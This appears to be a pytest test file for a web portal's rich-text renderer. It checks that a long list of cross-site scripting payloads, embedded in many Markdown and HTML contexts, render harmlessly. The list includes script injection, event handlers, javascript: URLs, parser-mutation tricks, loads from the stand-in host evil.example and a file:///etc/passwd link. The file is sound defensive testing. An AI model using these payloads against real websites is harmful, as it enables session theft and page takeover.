"""No text, however written, becomes anything that runs, restyles or poses as the page."""

import json
import os
import re
from pathlib import Path

import pytest

from portal.core.richtext.render import render
from portal.core.richtext.shapes import ResolvedLinks
from tests.richtext import danger

TAB, NUL = "\t", "\0"
PAYLOADS = [
    # scripts and what loads or runs like one
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    f"<scr{NUL}ipt>alert(1)</scr{NUL}ipt>",
    "</p><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<frameset onload=alert(1)>",
    "<portal src=//evil.example></portal>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=# onclick=alert(1)>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<b onpointerenter=alert(1) style=position:fixed;inset:0>x</b>",
    "<div onwheel=alert(1)>x</div>",
    "<kbd autofocus tabindex=1 onfocus=alert(1)>x</kbd>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    f"[x](java{TAB}script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](javascript://%0aalert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x" onerror="alert(1)](x)',
    '[x](y "t\\" onmouseover=\\"alert(1)")',
    '[x](y \'"onclick="alert(1)\')',
    "<javascript:alert(1)>",
    "<https://e.example/\"onmouseover=\"alert(1)>",
    'https://e.example/"onmouseover="alert(1)',
    "https://e.example/<script>alert(1)</script>",
    "[x](attachment:javascript:alert(1))",
    # SVG, MathML and markup that changes when parsed again
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<p title='</p><img src=x onerror=alert(1)>'>x</p>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml><img src=x onerror=alert(1)>?>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
    "<select><option><script>alert(1)</script>",
    # style, templates and posing as the page
    "<b style='background:url(javascript:alert(1))'>x</b>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<img src=x style=width:expression(alert(1))>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "<a id=location name=cookie>x</a>",
    "<img name=getElementById src=x>",
    "<form id=csrf_token><input name=action></form>",
    "<h2 id=__proto__>x</h2>",
    "# constructor {#location}",
    "## location",
    "<div class='stop-line btn' data-behaviour=escalate data-url=//evil.example>x</div>",
    "<aside class=stop-line>x</aside>",
    "<section class=tier-section>x</section>",
    "<li id=step-1 data-step=1 class=step>x</li>",
    "<label for=password>x</label><input type=password name=password>",
    "<dialog open>Your session ended</dialog>",
    # Markdown as the carrier
    "```<script>alert(1)</script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "```js {onclick=alert(1) .stop-line #location}\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '??? note "<img src=x onerror=alert(1)>"\n    x',
    '??? stop-line btn\n    x',
    "> [!WARNING <img src=x onerror=alert(1)>]\n> x",
    "> [!stop-line|btn] <script>alert(1)</script>\n> x",
    "[^<script>alert(1)</script>]: x\n\nx [^<script>alert(1)</script>]",
    "[^\"onmouseover=alert(1)]: x\n\nx[^\"onmouseover=alert(1)]",
    "- [x]<img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "++<script>alert(1)</script>++ ++ctrl+\"onclick=alert(1)\"++",
    "[[<img src=x onerror=alert(1)>]]",
    "[[x\" onclick=\"alert(1)]]",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",
    "\U0010ff04<script>alert(1)</script>\U0010ff05",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"x`<script>alert(1)</script>`\">x</a>",
    "`<a href=\"`\" onclick=alert(1)>x</a>",
    "<img src=\"`\" alt=\"` onerror=alert(1) \">",
    "**<a href=**javascript:alert(1)>x</a>",
    ":::l2\n</section><script>alert(1)</script>\n:::",
]  # fmt: skip
PLACES = [
    "{}",
    "text {} text",
    "# {}",
    "- {}\n- b",
    "1. a\n\n   {}\n2. b",
    "> {}",
    "| a |\n|---|\n| {} |",
    "[{}](https://e.example)",
    "[x]({})",
    '[x](y "{}")',
    "![{}](x.png)",
    "[[{}]]",
    "<b title='{}'>x</b>",
    "`{}`",
    "```{}\nx\n```",
    "<details><summary>{}</summary>\n\n{}\n\n</details>",
    "<div>\n{}\n</div>",
    "x[^1]\n\n[^1]: {}",
]


class HostileLinks(ResolvedLinks):
    """A catalogue whose titles and names were written by an attacker."""

    def record(self, ref: str) -> tuple[str, str]:
        return "/kb/1", '"><script>alert(1)</script>'

    def title(self, title: str) -> tuple[str, str]:
        return "/kb/1", "' onmouseover='alert(1)"

    def file(self, path: str) -> str:
        return '/files/1?"><script>alert(1)</script>'


def test_list_is_long_enough() -> None:
    assert len(set(PAYLOADS)) >= 120


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_in_every_place(payload: str) -> None:
    for place in PLACES:
        source = place.replace("{}", payload)
        assert danger.in_html(_without_own_parts(source)) == [], source


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_with_hostile_records(payload: str) -> None:
    source = f"KB-1 [[x]] ![a](a.png) [b](b.md)\n\n{payload}\n"
    assert danger.in_html(_without_own_parts(source, links=HostileLinks())) == []


def test_checker_finds_what_is_dangerous() -> None:
    html = '<script>x</script><a href="java&#9;script:x" onclick=x id=a>x</a><b class="btn">x</b>'
    assert len(danger.in_html(html)) == 5


def test_payload_file() -> None:
    path = os.environ.get("PORTAL_XSS_PAYLOADS")
    if not path:
        pytest.skip("PORTAL_XSS_PAYLOADS names no file of payloads")
    for line in Path(path).read_text(encoding="utf-8").strip().split("\n"):
        entry = json.loads(line)
        for place in ("{}", "text {}\n- {}", "[x]({})", "| a |\n|---|\n| {} |"):
            source = place.replace("{}", entry["payload"])
            assert danger.in_html(_without_own_parts(source)) == [], entry["id"]


def _without_own_parts(source: str, links: ResolvedLinks | None = None) -> str:
    """Give the HTML without the wrapper of a real tier section, which is ours to write."""
    html = render(source, links=links).html
    if ":::" not in source:
        return html
    return re.sub(r'class="tier-section tier-section--l[23]"', "", html)
